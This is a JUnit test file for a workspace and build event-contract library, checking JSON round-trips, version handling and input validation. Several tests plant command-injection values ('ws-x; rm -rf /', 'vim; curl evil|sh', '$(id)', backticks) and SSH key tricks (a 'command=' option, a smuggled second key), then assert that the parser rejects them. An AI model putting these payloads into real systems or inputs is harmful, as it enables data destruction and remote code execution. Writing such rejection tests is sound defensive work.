package io.a4c.events;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.exc.UnrecognizedPropertyException;
import com.fasterxml.jackson.databind.exc.ValueInstantiationException;
import java.io.IOException;
import java.io.InputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ContractRoundTripTest {
  private final ObjectMapper json = EventJson.newMapper();

  @ParameterizedTest
  @CsvSource({
    "create-workspace.json, io.a4c.events.HostCommand, io.a4c.events.CreateWorkspace",
    "create-workspace-ssh.json, io.a4c.events.HostCommand, io.a4c.events.CreateWorkspace",
    "delete-workspace.json, io.a4c.events.HostCommand, io.a4c.events.DeleteWorkspace",
    "sync-ssh-keys.json, io.a4c.events.HostCommand, io.a4c.events.SyncSshKeys",
    "stop-workspace.json, io.a4c.events.HostCommand, io.a4c.events.StopWorkspace",
    "start-workspace.json, io.a4c.events.HostCommand, io.a4c.events.StartWorkspace",
    "rebuild-workspace.json, io.a4c.events.HostCommand, io.a4c.events.RebuildWorkspace",
    "prefetch-image.json, io.a4c.events.HostCommand, io.a4c.events.PrefetchImage",
    "delete-workspace-keep-home.json, io.a4c.events.HostCommand, io.a4c.events.DeleteWorkspace",
    "workspace-status-stopped.json, io.a4c.events.HostEvent, io.a4c.events.WorkspaceStatus",
    "host-inventory-homes.json, io.a4c.events.HostEvent, io.a4c.events.HostInventory",
    "ssh-keys-applied.json, io.a4c.events.HostEvent, io.a4c.events.SshKeysApplied",
    "heartbeat.json, io.a4c.events.HostEvent, io.a4c.events.Heartbeat",
    "heartbeat-working-on.json, io.a4c.events.HostEvent, io.a4c.events.Heartbeat",
    "workspace-status.json, io.a4c.events.HostEvent, io.a4c.events.WorkspaceStatus",
    "host-inventory.json, io.a4c.events.HostEvent, io.a4c.events.HostInventory",
    "build-ended.json, io.a4c.events.HostEvent, io.a4c.events.BuildEnded",
    "builder-status.json, io.a4c.events.HostEvent, io.a4c.events.BuilderStatus",
    "build-log-update.json, io.a4c.events.HostEvent, io.a4c.events.BuildLogUpdate",
    "build-job.json, io.a4c.events.BuildMessage, io.a4c.events.BuildJob",
    "build-claim.json, io.a4c.events.BuildClaim, io.a4c.events.BuildClaim",
    "build-claim-answer.json, io.a4c.events.BuildClaimAnswer, io.a4c.events.BuildClaimAnswer",
    "build-claim-answer-granted.json, io.a4c.events.BuildClaimAnswer,"
        + " io.a4c.events.BuildClaimAnswer",
    "fill-pool.json, io.a4c.events.HostCommand, io.a4c.events.FillPool",
    "pool-member-status.json, io.a4c.events.HostEvent, io.a4c.events.PoolMemberStatus",
    "host-inventory-pool.json, io.a4c.events.HostEvent, io.a4c.events.HostInventory"
  })
  void readsTheFixtureAsItsTypeAndWritesItBackUnchanged(String file, Class<?> base, Class<?> type)
      throws IOException {
    JsonNode fixture = json.readTree(read(file));
    Object value = json.treeToValue(fixture, base);

    assertThat(value).isInstanceOf(type);
    assertThat(json.readTree(json.writerFor(base).writeValueAsString(value))).isEqualTo(fixture);
  }

  @ParameterizedTest
  @CsvSource({
    "create-workspace.json, io.a4c.events.HostCommand, io.a4c.events.CreateWorkspace",
    "create-workspace-ssh.json, io.a4c.events.HostCommand, io.a4c.events.CreateWorkspace",
    "delete-workspace.json, io.a4c.events.HostCommand, io.a4c.events.DeleteWorkspace",
    "sync-ssh-keys.json, io.a4c.events.HostCommand, io.a4c.events.SyncSshKeys",
    "stop-workspace.json, io.a4c.events.HostCommand, io.a4c.events.StopWorkspace",
    "start-workspace.json, io.a4c.events.HostCommand, io.a4c.events.StartWorkspace",
    "rebuild-workspace.json, io.a4c.events.HostCommand, io.a4c.events.RebuildWorkspace",
    "prefetch-image.json, io.a4c.events.HostCommand, io.a4c.events.PrefetchImage",
    "delete-workspace-keep-home.json, io.a4c.events.HostCommand, io.a4c.events.DeleteWorkspace",
    "workspace-status-stopped.json, io.a4c.events.HostEvent, io.a4c.events.WorkspaceStatus",
    "host-inventory-homes.json, io.a4c.events.HostEvent, io.a4c.events.HostInventory",
    "ssh-keys-applied.json, io.a4c.events.HostEvent, io.a4c.events.SshKeysApplied",
    "heartbeat.json, io.a4c.events.HostEvent, io.a4c.events.Heartbeat",
    "workspace-status.json, io.a4c.events.HostEvent, io.a4c.events.WorkspaceStatus",
    "host-inventory.json, io.a4c.events.HostEvent, io.a4c.events.HostInventory",
    "build-ended.json, io.a4c.events.HostEvent, io.a4c.events.BuildEnded",
    "builder-status.json, io.a4c.events.HostEvent, io.a4c.events.BuilderStatus",
    "build-log-update.json, io.a4c.events.HostEvent, io.a4c.events.BuildLogUpdate",
    "build-job.json, io.a4c.events.BuildMessage, io.a4c.events.BuildJob",
    "build-claim.json, io.a4c.events.BuildClaim, io.a4c.events.BuildClaim",
    "build-claim-answer.json, io.a4c.events.BuildClaimAnswer, io.a4c.events.BuildClaimAnswer",
    "build-claim-answer-granted.json, io.a4c.events.BuildClaimAnswer,"
        + " io.a4c.events.BuildClaimAnswer",
    "fill-pool.json, io.a4c.events.HostCommand, io.a4c.events.FillPool",
    "pool-member-status.json, io.a4c.events.HostEvent, io.a4c.events.PoolMemberStatus",
    "host-inventory-pool.json, io.a4c.events.HostEvent, io.a4c.events.HostInventory"
  })
  void readsTheFixtureOfALaterReleaseWithExtraFieldsAsThisReleasesMessage(
      String file, Class<?> base, Class<?> type) throws IOException {
    Object current = json.readValue(read(file), base);

    Object future = EventJson.messageReader(json, base).readValue(read("future/" + file));

    assertThat(future).isInstanceOf(type).isEqualTo(current);
    assertThat(json.readTree(json.writerFor(base).writeValueAsString(future)))
        .isEqualTo(json.readTree(read(file)));
  }

  @Test
  void keepsApiBodiesStrictAboutUnknownFields() {
    assertThatThrownBy(
            () -> json.readValue(read("future/create-workspace.json"), HostCommand.class))
        .isInstanceOf(UnrecognizedPropertyException.class)
        .hasMessageContaining("LaterRelease");
  }

  @Test
  void aMessageReaderStillRefusesAVersionItDoesNotUnderstand() throws IOException {
    String v2 =
        new String(read("future/delete-workspace.json"))
            .replace("\"version\": 1", "\"version\": 2");

    assertThatThrownBy(() -> EventJson.messageReader(json, HostCommand.class).readValue(v2))
        .isInstanceOf(ValueInstantiationException.class)
        .hasMessageContaining("version 2 is not supported");
  }

  @Test
  void refusesAnUnknownVersion() throws IOException {
    String v2 =
        new String(read("delete-workspace.json")).replace("\"version\": 1", "\"version\": 2");

    assertThatThrownBy(() -> json.readValue(v2, HostCommand.class))
        .isInstanceOf(ValueInstantiationException.class)
        .hasMessageContaining("version 2 is not supported");
  }

  @Test
  void refusesAWorkspaceIdThatCouldReachAContainerNameUnchecked() throws IOException {
    String hostile =
        new String(read("delete-workspace.json"))
            .replace("ws-01jd0000000000000000000000", "ws-x; rm -rf /");

    assertThatThrownBy(() -> json.readValue(hostile, HostCommand.class))
        .hasMessageContaining("workspaceId is missing or malformed");
  }

  @Test
  void refusesABuildJobWhoseToolOrChangeCarriesShellCharacters() throws IOException {
    String job = new String(read("build-job.json"));

    assertThatThrownBy(
            () ->
                json.readValue(job.replace("\"vim\"", "\"vim; curl evil|sh\""), BuildMessage.class))
        .hasMessageContaining("tools is missing or malformed");
    assertThatThrownBy(
            () -> json.readValue(job.replace("\"1234\"", "\"1234$(id)\""), BuildMessage.class))
        .hasMessageContaining("change is missing or malformed");
    assertThatThrownBy(
            () ->
                json.readValue(
                    job.replace("//depot/kernel/main/...", "//depot/`id`/..."), BuildMessage.class))
        .hasMessageContaining("source.depotPath is missing or malformed");
  }

  @Test
  void refusesAnAuthorizedKeyWithOptionsOrASecondLine() throws IOException {
    String sync = new String(read("sync-ssh-keys.json"));

    assertThatThrownBy(
            () ->
                json.readValue(
                    sync.replace("\"ssh-ed25519 ", "\"command=\\\"sh\\\" ssh-ed25519 "),
                    HostCommand.class))
        .hasMessageContaining("authorizedKeys is missing or malformed");
    assertThatThrownBy(
            () ->
                json.readValue(
                    sync.replace("alice@laptop", "alice@laptop\\nssh-ed25519 AAAAC3NzaC1lZDI1"),
                    HostCommand.class))
        .hasMessageContaining("authorizedKeys is missing or malformed");
  }

  @Test
  void leavesTheHostPrivateKeyOutOfTheCommandsText() throws IOException {
    var create = json.readValue(read("create-workspace-ssh.json"), HostCommand.class);

    assertThat(create.toString()).doesNotContain("PRIVATE KEY").contains("alice");
  }

  private static byte[] read(String file) throws IOException {
    try (InputStream in = ContractRoundTripTest.class.getResourceAsStream("/events/" + file)) {
      return in.readAllBytes();
    }
  }
}
